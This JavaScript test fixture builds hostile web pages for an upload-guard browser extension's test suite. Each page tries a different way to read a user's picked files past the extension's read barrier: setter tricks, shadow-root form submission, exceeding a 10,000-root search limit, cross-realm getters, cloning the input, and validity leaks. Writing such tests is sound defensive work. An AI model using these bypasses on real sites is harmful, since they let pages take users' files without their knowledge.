// Hostile pages for the forty-fifth attack on the upload guard: the read
// barrier (extension/content/file-barrier.js). Chromium's own picker is opened
// as in attack 44's labeldeep (a span 70 deep inside a DETACHED label holding
// a file input i, clicked in the person's click on "#open"); i's change
// listener then reads the files some way the barrier misses. Served by
// server.mjs at /attack45-…; tests: attack45.test.mjs.

import { attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';

/** attack 44's labeldeep (uploads.mjs browsersOwnPick). */
const deepPick = (onChange, before = '') => browsersOwnPick(onChange, { before });
const sendNow = (v, why) => `{ const fl = ${v}.files; note('${why}: ' + fl.length + (fl.length ? ' ' + fl[0].name + ' ' + fl[0].size : '')); if (fl.length) send([...fl], '${why}'); }`;
/** A form in an OPEN shadow root of a connected host, holding i and a submit button. */
const shadowForm = (attrs) => `
        const h = document.createElement('div'); document.body.append(h);
        const r = h.attachShadow({ mode: 'open' });
        const fr = document.createElement('iframe'); fr.name = 'sink45'; fr.style.display = 'none'; document.body.append(fr);
        const f = document.createElement('form'); ${attrs}
        const b = document.createElement('button'); b.type = 'submit'; b.textContent = 'go';
        f.append(i, b); r.append(f);`;

const HTML_WAYS = {
  // Control: labeldeep as in attack 44, the files read with the (wrapped) getter.
  plain: deepPick(sendNow('i', 'plain')),
  // `i.files = null` first: the native setter does nothing for null (the list stays), but the wrapper's `finally`
  // marks the input's current list, the browser's original, as the page's own; the getter then lets it through.
  nullset: deepPick(`i.files = null; ${sendNow('i', 'nullset')}`),
  // The same with a value the binding refuses (TypeError before the native setter runs): `finally` still marks it.
  badset: deepPick(`try { i.files = 5; } catch (e) { note('set threw ' + e.name); } ${sendNow('i', 'badset')}`),
  // i moved into a form in an open shadow root; its submit button clicked: the submit event is not composed and
  // never reaches the window's capture listener; the formdata event hands the page the form's entries.
  shadowformdata: deepPick(`${shadowForm("f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/px/never.gif'; f.target = 'sink45';")}
        f.addEventListener('formdata', (e) => { const v = e.formData.get('photo'); note('formdata: ' + (v && v.name) + ' ' + (v && v.size)); if (v && v.size && !window.once45) { window.once45 = 1; send([v], 'formdata'); } });
        b.click();`),
  // The same, the form posted natively to /upload (into a hidden frame): the server gets what the form held.
  shadowpost: deepPick(`${shadowForm("f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload'; f.target = 'sink45';")}
        f.addEventListener('submit', () => note('shadow submit'));
        b.click();`),
  // The same with requestSubmit() (wrapped): control.
  shadowrequest: deepPick(`${shadowForm("f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/px/never.gif'; f.target = 'sink45';")}
        f.addEventListener('formdata', (e) => { const v = e.formData.get('photo'); note('formdata: ' + (v && v.name) + ' ' + (v && v.size)); if (v && v.size && !window.once45) { window.once45 = 1; send([v], 'formdata'); } });
        f.requestSubmit();`),
  // A light-DOM form (connected) submitted with its button: control for the window's submit listener.
  lightformdata: deepPick(`const fr = document.createElement('iframe'); fr.name = 'sink45'; fr.style.display = 'none'; document.body.append(fr);
        const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/px/never.gif'; f.target = 'sink45';
        const b = document.createElement('button'); b.type = 'submit'; f.append(i, b); document.body.append(f);
        f.addEventListener('formdata', (e) => { const v = e.formData.get('photo'); note('formdata: ' + (v && v.name) + ' ' + (v && v.size)); if (v && v.size && !window.once45) { window.once45 = 1; send([v], 'formdata'); } });
        b.click();`),
  // i put in the 10,001st of 10,001 sibling shadow roots inside a host's shadow root: the barrier's message carries
  // the outer host (retargeted); guard.js fileInputsInside stops after 10,000 roots, finds no input, and answers
  // all the same (false); the barrier then marks the list as answered-for and lets it through.
  manyroots: deepPick(`const h = document.createElement('div'); document.body.append(h);
        const r = h.attachShadow({ mode: 'closed' });
        let last = null;
        for (let k = 0; k < 10001; k++) { const d = document.createElement('span'); r.append(d); last = d.attachShadow({ mode: 'open' }); }
        last.append(i);
        ${sendNow('i', 'manyroots')}`),
  // The same with 9,000 roots (within the limit): control.
  fewroots: deepPick(`const h = document.createElement('div'); document.body.append(h);
        const r = h.attachShadow({ mode: 'closed' });
        let last = null;
        for (let k = 0; k < 9000; k++) { const d = document.createElement('span'); r.append(d); last = d.attachShadow({ mode: 'open' }); }
        last.append(i);
        ${sendNow('i', 'fewroots')}`),
  // i in a closed shadow root nested in another closed one (within the limit): control for manyroots.
  nestedclosed: deepPick(`const h = document.createElement('div'); document.body.append(h);
        const r = h.attachShadow({ mode: 'closed' }); const h2 = document.createElement('div'); r.append(h2);
        h2.attachShadow({ mode: 'closed' }).append(i);
        ${sendNow('i', 'nestedclosed')}`),
  // The files getter (and the null set) taken from a fresh about:blank frame's realm.
  framegetter: deepPick(`const fr = window.fr45 || (window.fr45 = document.body.appendChild(document.createElement('iframe')));
        const g = Object.getOwnPropertyDescriptor(fr.contentWindow.HTMLInputElement.prototype, 'files');
        const fl = g.get.call(i); note('framegetter: ' + fl.length); if (fl.length) send([...fl], 'framegetter');`),
  // The null set through the frame's setter, read through this realm's getter (each realm keeps its own `known`).
  framenullset: deepPick(`const fr = document.createElement('iframe'); document.body.append(fr);
        Object.getOwnPropertyDescriptor(fr.contentWindow.HTMLInputElement.prototype, 'files').set.call(i, null);
        ${sendNow('i', 'framenullset')}`),
  // i cloned (Chromium copies a file input's list into the clone); the clone's files read (then what the clone gets later).
  clone: deepPick(`const c = i.cloneNode(); c.addEventListener('change', () => { note('clone change'); ${sendNow('c', 'clone change')} }); ${sendNow('c', 'clone')}`),
  // Detection, no pick needed: a page-made list set on input a, a clone of a read (a list neither the guard nor the
  // page set: the barrier takes it to the guard); without Silbato the clone holds the page's file.
  clonedetect: `
      const a = document.createElement('input'); a.type = 'file';
      const dt = new DataTransfer(); dt.items.add(new File(['hello'], 'note.txt', { type: 'text/plain' })); a.files = dt.files;
      const c = a.cloneNode();
      const said = 'clonedetect: clone holds ' + c.files.length + ', again ' + c.files.length;
      note(said);
      // (Said again in #status at the person's click: the page's status line is rewritten as it loads.)
      document.getElementById('open').addEventListener('click', () => setTimeout(() => { document.getElementById('status').textContent += ' | ' + said; }, 0));`,
  // Detection/leak of "a file was picked": validity and :valid with required, never wrapped.
  validity: deepPick(`i.required = true; note('valueMissing ' + i.validity.valueMissing + ', :valid ' + i.matches(':valid')); ${sendNow('i', 'validity')}`),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack45Page = attackPages(45, picker, {});
